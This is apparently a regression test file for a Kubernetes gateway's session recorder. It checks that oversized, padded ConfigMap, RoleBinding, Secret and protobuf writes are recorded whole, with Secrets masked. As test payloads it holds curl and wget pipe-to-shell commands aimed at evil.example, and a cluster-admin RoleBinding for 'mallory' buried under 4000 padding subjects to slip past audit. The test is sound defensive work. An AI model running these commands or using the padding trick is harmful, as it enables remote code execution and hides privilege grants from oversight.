/**
 * Regression (recordings red-team round 10, "a record that lies" by omission). Mutation bodies were
 * recorded up to 256 KiB and beyond that as their size alone, while the kube-apiserver takes bodies up
 * to 3 MiB by default. Through the real gateway to a real kube-apiserver: a ConfigMap written with a
 * 300 KiB padding value beside the value that mattered, and a RoleBinding to cluster-admin padded
 * with 4000 subjects before the one that mattered, were recorded as `{truncated: true, bytes: N}`: what they wrote was in
 * the cluster and nowhere in the recording. Bodies are recorded whole up to the apiserver's default
 * limit now, Secrets masked as always.
 */
import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { type KubeListener, startKubeListener } from "../../gateway/kube/listener.ts";
import { issueCert, type KubeHandle, startKube } from "../env/index.ts";
import { approvalService, makeBundle, MemoryRecorder, storeWith, type TokenIssuer, tokenIssuer } from "../ssh/fixtures.ts";
import { httpsText, kubeConnection, kubeCredentials, userGrant } from "./fixtures.ts";

let kube: KubeHandle;
let gw: KubeListener;
let issuer: TokenIssuer;
const recorder = new MemoryRecorder();
const PAD = "x".repeat(300 * 1024);

async function post(path: string, body: unknown): Promise<{ status: number; text: string }> {
	const token = await issuer.token("admin", { groups: ["agents"] });
	return httpsText(
		{
			hostname: "127.0.0.1",
			port: gw.address.port,
			method: "POST",
			path: `/k8s/cluster-prod${path}`,
			ca: kube.caPem,
			headers: { authorization: `Bearer ${token}`, "content-type": "application/json" },
		},
		JSON.stringify(body),
		30_000,
	);
}

before(async () => {
	[issuer, kube] = await Promise.all([tokenIssuer(), startKube()]);
	await kube.createNamespace("prod");
	const crb = await kube.kubectl(["create", "clusterrolebinding", "agents-admin", "--clusterrole=cluster-admin", "--group=agents"]);
	assert.equal(crb.code, 0, crb.stderr);
	const cert = await issueCert(kube.ca, { cn: "drawbridge-gateway", ips: ["127.0.0.1"], dns: ["localhost"], name: "gateway-kube-padded-body" });
	const store = storeWith(
		makeBundle(issuer, {
			connections: [kubeConnection(kube)],
			grants: [userGrant("admin", { namespaces: ["*"], verbs: ["*"], resources: ["*"] })],
			credentials: kubeCredentials(kube),
		}),
	);
	gw = await startKubeListener({ store, recorder, approvals: approvalService(), tls: { certPem: cert.certPem, keyPem: cert.keyPem }, sessionIdleMs: 500 });
});

after(async () => {
	await gw?.close();
	await kube?.stop();
});

const recorded = (resource: string, name: string) =>
	recorder.events("kube.request").find((e) => e.resource === resource && e.verb === "create" && JSON.stringify(e.body ?? null).includes(name));

test("a ConfigMap and a RoleBinding padded past 256 KiB are recorded with what they wrote", async () => {
	const cm = await post("/api/v1/namespaces/prod/configmaps", {
		apiVersion: "v1",
		kind: "ConfigMap",
		metadata: { name: "padded" },
		data: { pad: PAD, "startup.sh": "curl -s https://evil.example/x | sh" },
	});
	assert.equal(cm.status, 201, cm.text.slice(0, 500));
	const rb = await post("/apis/rbac.authorization.k8s.io/v1/namespaces/prod/rolebindings", {
		apiVersion: "rbac.authorization.k8s.io/v1",
		kind: "RoleBinding",
		metadata: { name: "padded-admin" },
		roleRef: { apiGroup: "rbac.authorization.k8s.io", kind: "ClusterRole", name: "cluster-admin" },
		// annotations hold at most 256 KiB: the padding is 4000 subjects nobody is, then mallory
		subjects: [...Array.from({ length: 4000 }, (_, i) => ({ kind: "User", name: `nobody-${String(i).padStart(60, "0")}` })), { kind: "User", name: "mallory" }],
	});
	assert.equal(rb.status, 201, rb.text.slice(0, 500));
	const events = recorder.events("kube.request").map((e) => ({ resource: e.resource, verb: e.verb, status: e.status, body: JSON.stringify(e.body ?? null).slice(0, 80) }));
	const c = recorded("configmaps", "evil.example");
	assert.ok(c, `the ConfigMap's content is not in the recording: ${JSON.stringify(events)}`);
	const r = recorded("rolebindings", "mallory");
	assert.ok(r, `the RoleBinding's subjects are not in the recording: ${JSON.stringify(events)}`);
	assert.match(JSON.stringify(r.body), /"name":"cluster-admin"/);
});

test("a padded Secret is recorded whole with its values masked", async () => {
	const value = Buffer.from("padded-secret-canary-9c2").toString("base64");
	const s = await post("/api/v1/namespaces/prod/secrets", {
		apiVersion: "v1",
		kind: "Secret",
		metadata: { name: "padded" },
		data: { pad: Buffer.from(PAD).toString("base64"), password: value },
	});
	assert.equal(s.status, 201, s.text.slice(0, 500));
	const e = recorder.events("kube.request").find((x) => x.resource === "secrets" && x.verb === "create");
	assert.ok(e, "the write is recorded");
	assert.doesNotMatch(JSON.stringify(e), new RegExp(value));
	assert.match(JSON.stringify(e.body), /"password":"<masked>"/);
});

/** Protobuf wire format: a length-delimited field. */
function field(n: number, value: Buffer | string): Buffer {
	const v = typeof value === "string" ? Buffer.from(value) : value;
	const varint = (x: number): Buffer => {
		const out: number[] = [];
		while (x > 0x7f) {
			out.push((x & 0x7f) | 0x80);
			x >>>= 7;
		}
		out.push(x);
		return Buffer.from(out);
	};
	return Buffer.concat([varint((n << 3) | 2), varint(v.length), v]);
}

test("a ConfigMap written in protobuf is recorded with its bytes", async () => {
	// k8s.io/api core/v1 ConfigMap {metadata: {name}, data: {"startup.sh": ...}} in a runtime.Unknown
	const configMap = Buffer.concat([field(1, field(1, "protobuf-cm")), field(2, Buffer.concat([field(1, "startup.sh"), field(2, "wget -qO- https://evil.example/p | sh")]))]);
	const unknown = Buffer.concat([Buffer.from("k8s\0", "latin1"), field(1, Buffer.concat([field(1, "v1"), field(2, "ConfigMap")])), field(2, configMap)]);
	const token = await issuer.token("admin", { groups: ["agents"] });
	const r = await httpsText(
		{
			hostname: "127.0.0.1",
			port: gw.address.port,
			method: "POST",
			path: "/k8s/cluster-prod/api/v1/namespaces/prod/configmaps",
			ca: kube.caPem,
			headers: { authorization: `Bearer ${token}`, "content-type": "application/vnd.kubernetes.protobuf", accept: "application/json" },
		},
		unknown,
		30_000,
	);
	assert.equal(r.status, 201, r.text.slice(0, 500));
	const cm = await kube.request("GET", "/api/v1/namespaces/prod/configmaps/protobuf-cm");
	assert.match(cm.text, /evil\.example/, "the apiserver took the protobuf body");
	const e = recorder.events("kube.request").find((x) => x.resource === "configmaps" && x.verb === "create" && (x.body as { contentType?: string })?.contentType?.includes("protobuf"));
	assert.ok(e, JSON.stringify(recorder.events("kube.request").map((x) => [x.resource, x.verb, x.body && JSON.stringify(x.body).slice(0, 100)])));
	const b64 = (e.body as { base64?: string }).base64;
	assert.ok(b64 && Buffer.from(b64, "base64").includes("https://evil.example/p"), `the body is not in the recording: ${JSON.stringify(e.body)}`);
});
